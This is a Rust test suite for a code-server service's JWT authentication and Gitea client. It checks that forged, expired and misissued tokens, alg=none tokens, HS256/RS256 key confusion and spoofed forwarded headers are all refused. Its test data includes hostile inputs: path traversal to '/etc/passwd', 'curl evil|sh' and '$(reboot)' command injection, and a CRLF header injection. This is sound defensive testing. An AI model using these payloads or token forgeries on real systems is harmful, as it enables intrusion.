//! Authentication against a local JWKS issuer, and the Gitea client against the simulated
//! Gitea: every way a token can be wrong is refused, and Gitea's answers map to access,
//! denial and outage.

use std::{sync::Arc, time::Duration};

use codeserver_service::{
    auth::{AuthError, AuthSettings, Authenticator},
    config::Secret,
    gitea::{AuthMode, Caller, GiteaClient, GiteaError, GiteaSettings, Unavailable},
    metrics::Metrics,
};
use codeserver_sim::{
    gitea::{GiteaFault, SERVICE_TOKEN, SimGitea, SimRepo, personal_token},
    issuer::{DEFAULT_AUDIENCE, Issuer, TokenSpec},
};
use http::{HeaderMap, HeaderValue, header::AUTHORIZATION};

async fn issuer() -> Arc<Issuer> {
    Arc::new(Issuer::start().await.unwrap())
}

fn settings(issuer: &Issuer) -> AuthSettings {
    AuthSettings {
        jwks_url: issuer.jwks_url(),
        issuer: Some(issuer.issuer_url()),
        audience: Some(DEFAULT_AUDIENCE.to_owned()),
        ..AuthSettings::default()
    }
}

fn authenticator(issuer: &Issuer) -> Authenticator {
    Authenticator::new(settings(issuer)).unwrap()
}

fn headers(pairs: &[(&str, &str)]) -> HeaderMap {
    let mut map = HeaderMap::new();
    for (name, value) in pairs {
        map.append(
            http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
            HeaderValue::from_str(value).unwrap(),
        );
    }
    map
}

fn bearer(token: &str) -> HeaderMap {
    headers(&[("authorization", &format!("Bearer {token}"))])
}

/// Asserts the token is refused with the expected error, and that the caller would only
/// ever read `unauthorized`.
async fn refused(auth: &Authenticator, headers: &HeaderMap) -> AuthError {
    let error = auth.authenticate(headers).await.unwrap_err();
    assert_eq!(error.caller_message(), "unauthorized");
    error
}

#[tokio::test]
async fn a_valid_token_yields_the_identity_and_keeps_the_token() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let token = issuer
        .mint(&TokenSpec::new("alice").roles(&["admin", "developer"]))
        .unwrap();
    let identity = auth.authenticate(&bearer(&token)).await.unwrap();
    assert_eq!(identity.user_id, "alice");
    assert_eq!(identity.email.as_deref(), Some("alice@devplatform.local"));
    assert_eq!(identity.sub.as_deref(), Some("sub-alice"));
    assert_eq!(identity.roles, ["admin", "developer"]);
    assert_eq!(identity.token.as_deref(), Some(token.as_str()));
    assert!(identity.is_admin(auth.admin_role()));
    assert!(!format!("{identity:?}").contains(&token));

    let bob = issuer.token("bob", &[]).unwrap();
    let identity = auth.authenticate(&bearer(&bob)).await.unwrap();
    assert!(!identity.is_admin("admin"));
    assert_eq!(issuer.jwks_requests(), 1, "keys are cached");
}

#[tokio::test]
async fn missing_and_malformed_credentials_are_refused() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    assert!(matches!(
        refused(&auth, &HeaderMap::new()).await,
        AuthError::MissingCredentials
    ));
    assert!(matches!(
        refused(&auth, &headers(&[("authorization", "Basic YWxpY2U6cHc=")])).await,
        AuthError::MalformedHeader
    ));
    for token in ["not-a-jwt", "a.b.c", "eyJhbGciOiJSUzI1NiJ9.e30", "x.y.z.w"] {
        assert!(
            matches!(
                refused(&auth, &bearer(token)).await,
                AuthError::MalformedToken(_)
            ),
            "{token}"
        );
    }
}

#[tokio::test]
async fn expired_and_not_yet_valid_tokens_are_refused_beyond_the_leeway() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let expired = issuer
        .mint(&TokenSpec::new("alice").expires_in(-300))
        .unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&expired)).await,
        AuthError::Expired
    ));
    let early = issuer
        .mint(&TokenSpec::new("alice").not_before(300))
        .unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&early)).await,
        AuthError::NotYetValid
    ));
    let skewed = issuer
        .mint(&TokenSpec::new("alice").expires_in(-5).not_before(5))
        .unwrap();
    assert_eq!(
        auth.authenticate(&bearer(&skewed)).await.unwrap().user_id,
        "alice",
        "a few seconds of clock skew are tolerated"
    );
}

#[tokio::test]
async fn tokens_for_another_issuer_or_audience_are_refused() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let other_iss = issuer
        .mint(&TokenSpec::new("alice").issuer("http://evil.example/realms/devplatform"))
        .unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&other_iss)).await,
        AuthError::WrongIssuer
    ));
    let other_aud = issuer
        .mint(&TokenSpec::new("alice").audience("another-service"))
        .unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&other_aud)).await,
        AuthError::WrongAudience
    ));

    let lenient = Authenticator::new(AuthSettings {
        issuer: None,
        audience: None,
        ..settings(&issuer)
    })
    .unwrap();
    assert!(lenient.authenticate(&bearer(&other_aud)).await.is_ok());
    assert!(lenient.authenticate(&bearer(&other_iss)).await.is_ok());
}

#[tokio::test]
async fn forged_algorithms_are_refused() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let spec = TokenSpec::new("mallory").roles(&["admin"]);

    let none = issuer.mint_alg_none(&spec);
    refused(&auth, &bearer(&none)).await;

    // The classic confusion attack: HS256 keyed with the RSA public key everyone can read.
    let pem = issuer.public_key_pem();
    let confused = issuer.mint_hs256(&spec, pem.as_bytes()).unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&confused)).await,
        AuthError::DisallowedAlgorithm { .. }
    ));

    // With JWT_SECRET set, HS256 is verified with that secret only, never the public key.
    let with_secret = Authenticator::new(AuthSettings {
        jwt_secret: Some("the-shared-secret-of-32-bytes-min".to_owned()),
        ..settings(&issuer)
    })
    .unwrap();
    assert!(matches!(
        refused(&with_secret, &bearer(&confused)).await,
        AuthError::BadSignature
    ));
    refused(&with_secret, &bearer(&none)).await;

    // A valid RS256 signature under a header that claims HS256 does not verify either.
    let rs256 = issuer.mint(&spec).unwrap();
    let mut parts: Vec<&str> = rs256.split('.').collect();
    let hs_header = base64_url(&format!(
        r#"{{"alg":"HS256","typ":"JWT","kid":"{}"}}"#,
        issuer.current_kid()
    ));
    parts[0] = &hs_header;
    refused(&with_secret, &bearer(&parts.join("."))).await;
}

fn base64_url(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

#[tokio::test]
async fn hs256_with_the_configured_secret_is_accepted() {
    let issuer = issuer().await;
    let auth = Authenticator::new(AuthSettings {
        jwt_secret: Some("the-shared-secret-of-32-bytes-min".to_owned()),
        ..settings(&issuer)
    })
    .unwrap();
    let token = issuer
        .mint_hs256(
            &TokenSpec::new("carol"),
            b"the-shared-secret-of-32-bytes-min",
        )
        .unwrap();
    assert_eq!(
        auth.authenticate(&bearer(&token)).await.unwrap().user_id,
        "carol"
    );
    let wrong = issuer
        .mint_hs256(&TokenSpec::new("carol"), b"a-guessed-secret")
        .unwrap();
    assert!(matches!(
        refused(&auth, &bearer(&wrong)).await,
        AuthError::BadSignature
    ));
}

#[tokio::test]
async fn an_unknown_kid_is_refused_and_refreshes_are_rate_limited() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let good = issuer.token("alice", &[]).unwrap();
    auth.authenticate(&bearer(&good)).await.unwrap();
    assert_eq!(issuer.jwks_requests(), 1);

    for _ in 0..5 {
        let unknown = issuer
            .mint(&TokenSpec::new("alice").kid("made-up"))
            .unwrap();
        assert!(matches!(
            refused(&auth, &bearer(&unknown)).await,
            AuthError::UnknownKey { .. }
        ));
    }
    assert_eq!(
        issuer.jwks_requests(),
        1,
        "no refetch within the refresh interval"
    );
}

#[tokio::test]
async fn a_rotated_key_is_fetched_when_its_kid_first_appears() {
    let issuer = issuer().await;
    // NB: no minimum time between refreshes, so no waiting; the minimum has its own test.
    let auth = Authenticator::new(AuthSettings {
        jwks_min_refresh: Duration::ZERO,
        ..settings(&issuer)
    })
    .unwrap();
    let old = issuer.token("alice", &[]).unwrap();
    auth.authenticate(&bearer(&old)).await.unwrap();

    let unknown = issuer
        .mint(&TokenSpec::new("alice").kid("made-up"))
        .unwrap();
    refused(&auth, &bearer(&unknown)).await;
    assert_eq!(
        issuer.jwks_requests(),
        2,
        "an unknown kid triggers one refresh"
    );

    issuer.rotate().await.unwrap();
    let new = issuer.token("alice", &[]).unwrap();
    assert_eq!(
        auth.authenticate(&bearer(&new)).await.unwrap().user_id,
        "alice"
    );
    assert_eq!(issuer.jwks_requests(), 3);
    assert!(
        auth.authenticate(&bearer(&old)).await.is_ok(),
        "old keys stay valid"
    );
    assert_eq!(issuer.jwks_requests(), 3);
}

#[tokio::test]
async fn a_verified_token_is_refused_once_its_key_is_withdrawn() {
    let issuer = issuer().await;
    // NB: every key lookup refreshes the set, as a set past its maximum age is.
    let auth = Authenticator::new(AuthSettings {
        jwks_min_refresh: Duration::ZERO,
        jwks_max_age: Duration::ZERO,
        ..settings(&issuer)
    })
    .unwrap();
    let old = issuer.token("alice", &[]).unwrap();
    for _ in 0..2 {
        assert_eq!(
            auth.authenticate(&bearer(&old)).await.unwrap().user_id,
            "alice"
        );
    }
    issuer.rotate().await.unwrap();
    issuer.retire_old_keys();
    assert!(matches!(
        refused(&auth, &bearer(&old)).await,
        AuthError::UnknownKey { .. }
    ));
    let new = issuer.token("alice", &[]).unwrap();
    assert!(auth.authenticate(&bearer(&new)).await.is_ok());
}

#[tokio::test]
async fn a_token_verified_before_is_still_checked_for_its_claims() {
    let issuer = issuer().await;
    let auth = authenticator(&issuer);
    let token = issuer.token("alice", &[]).unwrap();
    auth.authenticate(&bearer(&token)).await.unwrap();
    // The same claims signed with a guessed secret, and a changed signature, stay refused
    // after the genuine token was verified.
    let forged = issuer
        .mint_hs256(&TokenSpec::new("alice"), issuer.public_key_pem().as_bytes())
        .unwrap();
    refused(&auth, &bearer(&forged)).await;
    let (signed, signature) = token.rsplit_once('.').unwrap();
    let mut tampered: Vec<char> = signature.chars().collect();
    tampered[3] = if tampered[3] == 'A' { 'B' } else { 'A' };
    let tampered = format!("{signed}.{}", tampered.into_iter().collect::<String>());
    assert!(matches!(
        refused(&auth, &bearer(&tampered)).await,
        AuthError::BadSignature | AuthError::MalformedToken(_)
    ));
    assert!(auth.authenticate(&bearer(&token)).await.is_ok());
}

#[tokio::test]
async fn an_unreachable_jwks_is_a_server_fault() {
    let issuer = issuer().await;
    let closed = closed_port_url().await;
    let auth = Authenticator::new(AuthSettings {
        jwks_url: format!("{closed}/certs"),
        ..settings(&issuer)
    })
    .unwrap();
    let token = issuer.token("alice", &[]).unwrap();
    let error = refused(&auth, &bearer(&token)).await;
    assert!(matches!(error, AuthError::JwksFetch { .. }), "{error}");
    assert!(error.is_server_fault());
}

#[tokio::test]
async fn forwarded_headers_count_only_when_trusted() {
    let issuer = issuer().await;
    let forged = headers(&[
        ("x-forwarded-user", "bob"),
        ("x-forwarded-email", "bob@devplatform.local"),
    ]);
    let untrusting = authenticator(&issuer);
    assert!(matches!(
        refused(&untrusting, &forged).await,
        AuthError::MissingCredentials
    ));
    let alice = issuer.token("alice", &[]).unwrap();
    let mut alice_claims_bob = forged.clone();
    alice_claims_bob.insert(AUTHORIZATION, format!("Bearer {alice}").parse().unwrap());
    assert_eq!(
        untrusting
            .authenticate(&alice_claims_bob)
            .await
            .unwrap()
            .user_id,
        "alice",
        "untrusted forwarded headers are ignored"
    );

    let trusting = Authenticator::new(AuthSettings {
        trust_forwarded: true,
        ..settings(&issuer)
    })
    .unwrap();
    let identity = trusting.authenticate(&forged).await.unwrap();
    assert_eq!(identity.user_id, "bob");
    assert_eq!(identity.email.as_deref(), Some("bob@devplatform.local"));
    assert!(identity.roles.is_empty() && identity.token.is_none());
    assert!(matches!(
        refused(&trusting, &alice_claims_bob).await,
        AuthError::ForwardedMismatch
    ));
    let mut alice_by_sub = headers(&[("x-forwarded-user", "sub-alice")]);
    alice_by_sub.insert(AUTHORIZATION, format!("Bearer {alice}").parse().unwrap());
    assert_eq!(
        trusting.authenticate(&alice_by_sub).await.unwrap().user_id,
        "alice",
        "a proxy may forward the subject instead of the user name"
    );
    let expired = issuer
        .mint(&TokenSpec::new("bob").expires_in(-600))
        .unwrap();
    let mut bob_expired = forged.clone();
    bob_expired.insert(AUTHORIZATION, format!("Bearer {expired}").parse().unwrap());
    assert!(matches!(
        refused(&trusting, &bob_expired).await,
        AuthError::Expired
    ));
}

#[tokio::test]
async fn insecure_decode_is_refused_in_production_and_still_checks_expiry() {
    let issuer = issuer().await;
    let production = AuthSettings {
        insecure_decode: true,
        environment: "production".to_owned(),
        ..settings(&issuer)
    };
    assert!(matches!(
        Authenticator::new(production),
        Err(AuthError::InsecureDecodeInProduction)
    ));

    let development = Authenticator::new(AuthSettings {
        insecure_decode: true,
        jwks_url: closed_port_url().await,
        ..settings(&issuer)
    })
    .unwrap();
    let unsigned_elsewhere = issuer
        .mint_hs256(&TokenSpec::new("dave"), b"anything")
        .unwrap();
    assert_eq!(
        development
            .authenticate(&bearer(&unsigned_elsewhere))
            .await
            .unwrap()
            .user_id,
        "dave"
    );
    let expired = issuer
        .mint(&TokenSpec::new("dave").expires_in(-600))
        .unwrap();
    assert!(matches!(
        refused(&development, &bearer(&expired)).await,
        AuthError::Expired
    ));
}

async fn closed_port_url() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    drop(listener);
    format!("http://{addr}")
}

/// The caller presented by forwarding `token` (the clients here use the forward mode).
fn fwd(token: &str) -> Caller<'_> {
    Caller {
        username: "unused-when-forwarding",
        token: Some(token),
    }
}

fn gitea_client(url: &str) -> GiteaClient {
    GiteaClient::new(GiteaSettings {
        backoff: Duration::from_millis(10),
        max_backoff: Duration::from_millis(20),
        timeout: Duration::from_secs(2),
        ..GiteaSettings::new(url)
    })
    .unwrap()
}

async fn gitea() -> (Arc<Issuer>, SimGitea, GiteaClient) {
    let issuer = issuer().await;
    let sim = SimGitea::start(issuer.clone()).await.unwrap();
    let client = gitea_client(&sim.url());
    (issuer, sim, client)
}

#[tokio::test]
async fn gitea_grants_access_to_visible_repositories_with_their_clone_url() {
    let (issuer, sim, client) = gitea().await;
    let alice = issuer.token("alice", &[]).unwrap();
    let repo = client
        .repository(&fwd(&alice), "devteam", "backend-api")
        .await
        .unwrap();
    assert_eq!(repo.owner, "devteam");
    assert_eq!(repo.name, "backend-api");
    assert!(repo.private);
    assert_eq!(
        repo.clone_url,
        format!("{}/devteam/backend-api.git", sim.url())
    );

    let bob = issuer.token("bob", &[]).unwrap();
    let public = client
        .repository(&fwd(&bob), "devteam", "docs")
        .await
        .unwrap();
    assert!(!public.private);
}

#[tokio::test]
async fn gitea_denies_private_missing_and_unauthenticated_lookups() {
    let (issuer, _sim, client) = gitea().await;
    let bob = issuer.token("bob", &[]).unwrap();
    for (owner, name) in [("alice", "notes"), ("nobody", "nothing")] {
        let error = client
            .repository(&fwd(&bob), owner, name)
            .await
            .unwrap_err();
        assert!(matches!(error, GiteaError::AccessDenied), "{owner}/{name}");
        assert_eq!(error.to_string(), "repository access denied");
    }
    let expired = issuer
        .mint(&TokenSpec::new("alice").expires_in(-600))
        .unwrap();
    assert!(matches!(
        client.repository(&fwd(&expired), "alice", "notes").await,
        Err(GiteaError::AccessDenied)
    ));
    assert!(matches!(
        client.repositories(&fwd("garbage")).await,
        Err(GiteaError::AccessDenied)
    ));
}

#[tokio::test]
async fn gitea_without_pull_permission_is_access_denied() {
    use warp::Filter;
    let route = warp::path!("api" / "v1" / "repos" / String / String).map(|owner: String, name| {
        warp::reply::json(&serde_json::json!({
            "owner": {"login": owner}, "name": name, "full_name": "x/y", "private": true,
            "clone_url": "http://gitea/x/y.git",
            "permissions": {"admin": false, "push": false, "pull": false},
        }))
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(warp::serve(route).incoming(listener).run());
    let client = gitea_client(&format!("http://{addr}"));
    assert!(matches!(
        client.repository(&fwd("a.b.c"), "x", "y").await,
        Err(GiteaError::AccessDenied)
    ));
}

#[tokio::test]
async fn hostile_repository_names_are_refused_before_any_call() {
    let (issuer, sim, client) = gitea().await;
    let alice = issuer.token("alice", &[]).unwrap();
    let long = "a".repeat(10_000);
    for (owner, name) in [
        ("devteam", "../../etc/passwd"),
        ("devteam", ".."),
        ("dev team", "x"),
        ("devteam", "x;curl evil|sh"),
        ("devteam", "$(reboot)"),
        ("devteam", "line\nbreak"),
        ("devteam", long.as_str()),
        ("", "x"),
    ] {
        assert!(
            matches!(
                client.repository(&fwd(&alice), owner, name).await,
                Err(GiteaError::InvalidName(_))
            ),
            "{owner:?}/{name:?}"
        );
    }
    assert_eq!(sim.requests(), 0);
}

#[tokio::test]
async fn gitea_outages_are_retried_then_reported_as_unavailable() {
    let (issuer, sim, client) = gitea().await;
    let alice = issuer.token("alice", &[]).unwrap();

    sim.set_fault(GiteaFault::FailNext(2));
    assert!(
        client
            .repository(&fwd(&alice), "devteam", "docs")
            .await
            .is_ok()
    );
    assert_eq!(sim.requests(), 3, "two failures, then success");

    sim.set_fault(GiteaFault::Unavailable);
    let error = client
        .repository(&fwd(&alice), "devteam", "docs")
        .await
        .unwrap_err();
    assert!(
        matches!(
            error,
            GiteaError::Unavailable {
                attempts: 3,
                cause: Unavailable::Status(503)
            }
        ),
        "{error:?}"
    );
    assert_eq!(sim.requests(), 6);

    sim.set_fault(GiteaFault::InternalError);
    assert!(matches!(
        client.repositories(&fwd(&alice)).await,
        Err(GiteaError::Unavailable {
            cause: Unavailable::Status(500),
            ..
        })
    ));

    let down = gitea_client(&closed_port_url().await);
    assert!(matches!(
        down.repository(&fwd(&alice), "devteam", "docs").await,
        Err(GiteaError::Unavailable {
            cause: Unavailable::Transport(_),
            ..
        })
    ));
}

#[tokio::test]
async fn repositories_follow_pagination() {
    let (issuer, sim, client) = gitea().await;
    for i in 0..120 {
        sim.add_repo(SimRepo::new(
            "alice",
            &format!("project-{i:03}"),
            i % 2 == 0,
        ));
    }
    let metrics = Metrics::new().unwrap();
    let client = client.with_metrics(metrics.clone());
    let alice = issuer.token("alice", &[]).unwrap();
    let before = sim.requests();
    let repos = client.repositories(&fwd(&alice)).await.unwrap();
    // 120 added + notes + dotfiles (owned) + devteam/backend-api (collaborator).
    assert_eq!(repos.len(), 123);
    assert_eq!(sim.requests() - before, 3, "pages of 50, 50 and 23");
    assert!(
        repos
            .iter()
            .any(|r| r.owner == "devteam" && r.name == "backend-api")
    );
    assert!(!repos.iter().any(|r| r.owner == "bob"));
    let names: std::collections::HashSet<_> = repos
        .iter()
        .map(|r| format!("{}/{}", r.owner, r.name))
        .collect();
    assert_eq!(names.len(), 123, "no page read twice");

    let bob = issuer.token("bob", &[]).unwrap();
    let bobs = client.repositories(&fwd(&bob)).await.unwrap();
    assert_eq!(bobs.len(), 2, "secret-project and backend-api: {bobs:?}");
    assert!(
        metrics
            .encode()
            .contains("codeserver_gitea_requests_total{result=\"ok\"} 4")
    );
}

#[tokio::test]
async fn exactly_fifty_repositories_need_a_second_empty_page() {
    let issuer = issuer().await;
    let repos = (0..50)
        .map(|i| SimRepo::new("erin", &format!("r{i}"), true))
        .collect();
    let sim = SimGitea::start_with(issuer.clone(), repos).await.unwrap();
    let client = gitea_client(&sim.url());
    let erin = issuer.token("erin", &[]).unwrap();
    assert_eq!(client.repositories(&fwd(&erin)).await.unwrap().len(), 50);
    assert_eq!(sim.requests(), 2);
}

fn sudo_client(url: &str, token: &str) -> GiteaClient {
    GiteaClient::new(GiteaSettings {
        auth_mode: AuthMode::Sudo,
        service_token: Some(Secret::new(token)),
        backoff: Duration::from_millis(10),
        ..GiteaSettings::new(url)
    })
    .unwrap()
}

/// The caller `username` with their verified `token` (whose `sub` links them to the
/// Gitea account in `Sudo` mode).
fn as_user<'a>(username: &'a str, token: &'a str) -> Caller<'a> {
    Caller {
        username,
        token: Some(token),
    }
}

#[tokio::test]
async fn sudo_asks_gitea_as_the_named_user_with_the_service_token() {
    let issuer = issuer().await;
    let sim = SimGitea::start(issuer.clone()).await.unwrap();
    let client = sudo_client(&sim.url(), SERVICE_TOKEN);
    let alice = issuer.token("alice", &[]).unwrap();
    let bob = issuer.token("bob", &[]).unwrap();
    // alice may read the private devteam/backend-api and her own notes; bob may not
    // read her notes nor see bob's secret project through alice.
    let repo = client
        .repository(&as_user("alice", &alice), "devteam", "backend-api")
        .await
        .unwrap();
    assert!(repo.private);
    assert!(
        client
            .repository(&as_user("Alice", &alice), "alice", "notes")
            .await
            .is_ok()
    );
    assert!(matches!(
        client
            .repository(&as_user("bob", &bob), "alice", "notes")
            .await,
        Err(GiteaError::AccessDenied)
    ));
    assert!(matches!(
        client
            .repository(&as_user("alice", &alice), "bob", "secret-project")
            .await,
        Err(GiteaError::AccessDenied)
    ));
    let names: Vec<String> = client
        .repositories(&as_user("bob", &bob))
        .await
        .unwrap()
        .into_iter()
        .map(|r| format!("{}/{}", r.owner, r.name))
        .collect();
    assert!(
        names.contains(&"bob/secret-project".to_owned()),
        "{names:?}"
    );
    assert!(!names.contains(&"alice/notes".to_owned()), "{names:?}");
    // A user Gitea does not know: denied without a Sudo call.
    let nobody = issuer.token("nobody", &[]).unwrap();
    let before = sim.requests();
    assert!(matches!(
        client
            .repository(&as_user("nobody", &nobody), "devteam", "docs")
            .await,
        Err(GiteaError::NotLinked(_))
    ));
    assert_eq!(sim.requests(), before + 1, "the account lookup only");
    // Each account was looked up once (alice's under two spellings), and GITEA_TOKEN
    // checked once; a kept verdict costs no call.
    assert_eq!(sim.user_lookups(), 3);
    let before = sim.requests();
    assert!(
        client
            .repository(&as_user("bob", &bob), "devteam", "docs")
            .await
            .is_ok()
    );
    assert_eq!(sim.requests(), before + 1);
    // A caller without a token (known by forwarded headers) has no `sub` to link: denied
    // without any call.
    let before = sim.requests();
    let headers_only = Caller {
        username: "bob",
        token: None,
    };
    assert!(matches!(
        client.repository(&headers_only, "devteam", "docs").await,
        Err(GiteaError::NotLinked(_))
    ));
    assert_eq!(sim.requests(), before);
}

#[tokio::test]
async fn sudo_is_refused_for_a_token_that_is_not_a_site_admins() {
    let issuer = issuer().await;
    let sim = SimGitea::start(issuer.clone()).await.unwrap();
    let alice = issuer.token("alice", &[]).unwrap();
    let client = sudo_client(&sim.url(), &personal_token("bob"));
    assert!(matches!(
        client
            .repository(&as_user("alice", &alice), "alice", "notes")
            .await,
        Err(GiteaError::SudoRefused)
    ));
    // Gitea does not know the token: a configuration error, not the caller's denial.
    let forged = sudo_client(&sim.url(), "not-a-token");
    assert!(matches!(
        forged
            .repository(&as_user("alice", &alice), "alice", "notes")
            .await,
        Err(GiteaError::ServiceRefused { status: 401, .. })
    ));
    // A caller whose name Gitea could never have is denied before any call.
    let before = sim.requests();
    for hostile in ["alice\r\nSudo: admin", "a b", "", "../admin", "ü"] {
        assert!(
            matches!(
                client
                    .repository(&as_user(hostile, &alice), "devteam", "docs")
                    .await,
                Err(GiteaError::AccessDenied)
            ),
            "{hostile:?}"
        );
    }
    assert_eq!(sim.requests(), before);
    // Sudo mode without a service token is a configuration error at start.
    assert!(matches!(
        GiteaClient::new(GiteaSettings {
            auth_mode: AuthMode::Sudo,
            ..GiteaSettings::new(&sim.url())
        }),
        Err(GiteaError::NoServiceToken)
    ));
}

#[tokio::test]
async fn deploy_keys_are_added_read_only_and_removed_with_the_service_token() {
    let issuer = issuer().await;
    let sim = SimGitea::start(issuer.clone()).await.unwrap();
    let client = sudo_client(&sim.url(), SERVICE_TOKEN);
    let public =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM1VOVdnrKpuTI07fd/jfdRPH95ou28FOqMqRPa5uwfi t";
    let key = client
        .add_deploy_key(
            "alice",
            "notes",
            "codeserver-service code-server-alice",
            public,
        )
        .await
        .unwrap();
    assert!(key.read_only);
    assert_eq!(key.title, "codeserver-service code-server-alice");
    let stored = sim.deploy_keys();
    assert_eq!(stored.len(), 1);
    assert_eq!(
        (stored[0].repo.as_str(), stored[0].id),
        ("alice/notes", key.id)
    );
    // The same key twice is refused by Gitea (422), and no call is retried.
    let before = sim.requests();
    assert!(matches!(
        client
            .add_deploy_key("alice", "notes", "again", public)
            .await,
        Err(GiteaError::UnexpectedStatus { status: 422, .. })
    ));
    assert_eq!(sim.requests(), before + 1);
    client
        .remove_deploy_key("alice", "notes", key.id)
        .await
        .unwrap();
    assert!(sim.deploy_keys().is_empty());
    // Already gone: fine.
    client
        .remove_deploy_key("alice", "notes", key.id)
        .await
        .unwrap();
    // A token that is not a site admin's cannot manage keys of others' repositories.
    let bobs = sudo_client(&sim.url(), &personal_token("bob"));
    assert!(matches!(
        bobs.add_deploy_key("devteam", "docs", "t", public).await,
        Err(GiteaError::ServiceRefused { status: 403, .. })
    ));
    assert!(sim.deploy_keys().is_empty());
}
